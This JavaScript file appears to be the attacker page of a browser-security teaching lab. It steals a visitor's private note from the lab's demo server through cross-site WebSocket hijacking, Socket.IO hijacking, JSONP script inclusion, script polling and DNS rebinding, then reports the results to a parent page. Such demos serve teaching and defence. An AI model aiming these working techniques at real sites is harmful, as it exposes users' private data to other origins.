// A page of another origin. It tries to read the visitor's private note from the demo's server, which knows the visitor by a cookie.
//
// The query names its target: host, port, and client, the name under which the x-ray shows its requests. It reports facts
// to the page that frames it: "got websocket" with what it got, or "refused websocket".

import { catalogue, setLanguage } from "/lab/shared/catalogue.js";
import { texts } from "/lab/lane/text.js";

const t = catalogue("page", texts);
const aim = new URLSearchParams(location.search);
const host = `${aim.get("host")}:${Number(aim.get("port"))}`;
const client = aim.get("client");
const page = `${location.protocol}//${host}`;
const timeout = 5000; // ms: longer than the server waits for a first message

const names = { websocket: "h.websocket", socketio: "h.socketio", script: "h.script", polling: "h.polling", rebinding: "h.rebinding" };

const $ = (id) => document.getElementById(id);

/** A WebSocket's messages until it ends, or until there is a note among them. */
function listen(path, sent = []) {
  return new Promise((done) => {
    const heard = [];
    const socket = new WebSocket(`${page.replace("http", "ws")}${path}`);
    const end = (code) => { socket.onmessage = socket.onclose = null; socket.close(); done([...heard, ...(code ? [t("h.closed", code)] : [])].join("\n")); };
    socket.onopen = () => sent.forEach((message) => socket.send(message));
    socket.onmessage = ({ data }) => { heard.push(data); if (hasNote(data)) end(); };
    socket.onclose = ({ code, reason }) => end(reason ? `${code}, ${reason}` : code);
    setTimeout(() => end("–"), timeout);
  });
}

/** Loads a script that calls the function of that name, and returns what it was called with, or null. */
function load(path, name, holder = window) {
  return new Promise((done) => {
    holder[name] = done;
    const script = document.createElement("script");
    script.src = `${page}${path}`;
    script.onerror = () => done(null);
    document.head.append(script);
    setTimeout(() => done(null), timeout);
  });
}

const attacks = {
  // Cross-site WebSocket hijacking: browsers let every page open a WebSocket to every server.
  websocket: () => listen(`/account/ws?way=cookie&client=${client}`),

  // The same against Socket.IO, whose first packet from a client is 40.
  socketio: () => listen(`/socket.io/?EIO=4&transport=websocket&client=${client}`, ["40"]),

  // A script of another server may be loaded from everywhere: an answer that is a script is for everyone to read.
  async script() {
    const account = await load(`/account/data?callback=stolen&client=${client}`, "stolen");
    return account ? `stolen(${JSON.stringify(account)})` : t("h.noScript");
  },

  // Polling by scripts, as Socket.IO had it for old browsers: a whole connection of scripts and forms.
  async polling() {
    window.___eio = [];
    const base = `/socket.io/?EIO=4&transport=polling&j=0&client=${client}`;
    const open = await load(base, 0, window.___eio);
    if (!open) return t("h.noScript");
    const session = `${base}&sid=${JSON.parse(open.slice(1)).sid}`;
    await fetch(`${page}${session}`, { method: "POST", mode: "no-cors", credentials: "include", body: new URLSearchParams({ d: "40" }) });
    const heard = [open];
    for (let poll = 0; poll < 3 && !hasNote(heard.at(-1)) && !heard.at(-1).includes("44{"); poll++) {
      const packets = await load(session, 0, window.___eio);
      if (packets === null) break;
      heard.push(packets);
    }
    return heard.map((packets) => packets.replaceAll("\x1e", "\n")).join("\n");
  },

  // DNS rebinding: this page's server sends what a browser would send from evil.example.
  async rebinding() {
    const answer = await fetch(`/rebind?client=${client}`, { method: "POST" });
    const { request, answer: got, error } = await answer.json();
    return `${request.trimEnd()}\n\n${error ?? got}`;
  },
};

/** Whether there is a private note in what was got. */
const hasNote = (text) => /"note":"/.test(text);

/** Whether an attack got what it wanted: the rebinding, which has no cookie, an answer. */
const succeeded = (name, text) => (name === "rebinding" ? /^HTTP\/1\.1 200/m.test(text) : hasNote(text));

async function attack(name) {
  let got;
  try {
    got = await attacks[name]();
  } catch (error) {
    got = error.message;
  }
  const won = succeeded(name, got);
  const item = document.createElement("li");
  item.className = won ? "got" : "not";
  const [head, bytes] = [document.createElement("b"), document.createElement("pre")];
  head.textContent = `${t(names[name])}: ${t(won ? "h.got" : "h.not")}`;
  bytes.textContent = got;
  item.append(head, bytes);
  $("got").prepend(item);
  if (parent !== window) parent.postMessage({ fact: `${won ? "got" : "refused"} ${name}`, got: won ? got : "" }, "*");
}

setLanguage(aim.get("lang") === "zh" ? "zh" : "en");
document.documentElement.lang = aim.get("lang") === "zh" ? "zh-CN" : "en";
if (aim.get("theme")) document.documentElement.dataset.theme = aim.get("theme");
document.title = $("title").textContent = t("h.title");
$("where").textContent = t("h.where", location.origin, page);
$("got").setAttribute("aria-label", t("h.log"));
for (const name of Object.keys(attacks)) {
  const button = document.createElement("button");
  button.type = "button";
  button.value = name;
  button.textContent = t(names[name]);
  button.addEventListener("click", () => attack(name));
  $("attacks").append(button);
}
addEventListener("message", ({ source, data }) => { if (source === parent && Object.hasOwn(attacks, data?.attack)) attack(data.attack); });
if (parent !== window) parent.postMessage({ fact: "ready" }, "*");
